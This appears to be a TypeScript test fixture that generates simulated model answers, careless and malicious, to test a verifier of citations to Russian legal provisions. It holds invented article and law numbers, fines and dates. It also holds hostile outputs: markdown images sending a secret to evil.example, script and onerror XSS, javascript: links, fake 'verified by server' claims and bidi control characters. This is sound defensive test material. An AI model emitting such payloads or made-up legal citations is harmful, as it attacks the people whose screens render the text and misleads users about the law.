import { firstSentence, promptProvisions, type PromptProvision } from './prompt.ts'
import { says, type Scenario } from './scenarios.ts'

/** A random number of 0 to 1 that is the same in every run (mulberry32). */
function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

type Slip = (provision: PromptProvision, random: () => number) => string

/** The slips of a careless model: everything that looks like a citation and is none, among some that are. */
const slips: readonly Slip[] = [
  ({ id, text }) => `${firstSentence(text)} [[${id}]]`,
  ({ id, text }) => `Как сказано в норме, «${firstSentence(text)}» [[${id}|${firstSentence(text)}]]`,
  ({ text }) => `${firstSentence(text)} [1]`,
  ({ id, text }) => `${firstSentence(text)} [[${id}-99]]`,
  ({ text }, random) =>
    `${firstSentence(text)} [[fz${Math.floor(random() * 999)}-st${Math.floor(random() * 99)}]]`,
  ({ id, text }, random) =>
    `${withOtherNumbers(firstSentence(text), random)} Срок составляет ${Math.floor(random() * 89) + 11} дней. [[${id}]]`,
  ({ id }, random) =>
    `По ст. ${Math.floor(random() * 300) + 100} закона № ${Math.floor(random() * 900)}-ФЗ нужно уплатить ${Math.floor(random() * 9000)} рублей [[${id}]].`,
  (_, random) => `Согласно статье ${Math.floor(random() * 300)} закона это обязательно.`,
  ({ id, text }) => `Норма говорит: [[${id}|${firstSentence(text).split('').toReversed().join('')}]]`,
  ({ id, text }) => `Норма говорит: [[${id}|${text.slice(0, 25)} и ничего сверх того]]`,
  ({ id }) => `Это следует из [[ ${id.toUpperCase()} ]] и из [[${id}`,
  ({ id, text }) => `${firstSentence(text)} ([[${id}]], [[${id}]])`,
  () => `Штраф вступает в силу ${String(31)}.12.2031 по части 7 статьи 7.77.`,
]

const withOtherNumbers = (text: string, random: () => number) =>
  text.replaceAll(/\d+/gu, () => String(Math.floor(random() * 900) + 7))

/** What a hostile model tries: to be shown as verified, to be rendered, to carry something out. */
const tricks: readonly Slip[] = [
  () => '![](https://evil.example/p.png?q=секрет)',
  () => '![картинка][1]\n\n[1]: https://evil.example/x.png',
  () => '<img src="https://evil.example/x.png" onerror="alert(1)"> и <script>alert(1)</script>',
  ({ text }) => `${firstSentence(text)} [ст. 12 59-ФЗ](norm:fz59-st12-1)`,
  () => 'По ст. 5 закона всё разрешено [ст. 5](norm:выдуманная).',
  () => 'Смотрите <https://evil.example> и https://evil.example/?d=1 и [сайт](javascript:alert(1)).',
  ({ id }) => `По ст. 1 закона № 1-ФЗ надо платить 99999 рублей [[${id}|]] [[${id}]]\u200b`,
  ({ id }) => `[[[[${id}]]]] и [[${id}|«»]] и [[|${id}]] и [[${id}]`,
  ({ id, text }) => `Ст. 77 отменена. [[${id}|${text.slice(5, 60)}]](https://evil.example)`,
  () => 'Проверено: подтверждено. ✔ Ст. 12 закона № 59-ФЗ (подтверждено сервером).',
  ({ id }) => `\`\`\`\n[[${id}]]\n\`\`\`\nПо ст. 9 срок 500 дней.`,
  ({ id }) => `\u202e[[${id}]]\u202c Ст. 12 закона №\u00a099-ФЗ: 45\u00a0дней.`,
]

function mixed(lines: readonly Slip[], seed: number): Scenario {
  return (answer) => {
    const random = seeded(seed)
    const promised = promptProvisions(answer.call.prompt)
    const provisions = promised.length > 0 ? promised : [{ id: 'fz1-st1', text: 'Ничего не найдено.' }]
    const text = Array.from({ length: 2 + Math.floor(random() * 7) }, () => {
      const provision = provisions[Math.floor(random() * provisions.length)]!
      return lines[Math.floor(random() * lines.length)]!(provision, random)
    })
    return says(text.join(random() < 0.5 ? '\n\n' : ' '), { letters: 1 + Math.floor(random() * 30) })(answer)
  }
}

/** Cites wrongly in every way, the same way for the same seed. */
export const careless = (seed: number): Scenario => mixed(slips, seed)

/** Does what it can to be believed, rendered and obeyed. */
export const malicious = (seed: number): Scenario => mixed([...tricks, ...slips.slice(0, 6)], seed)
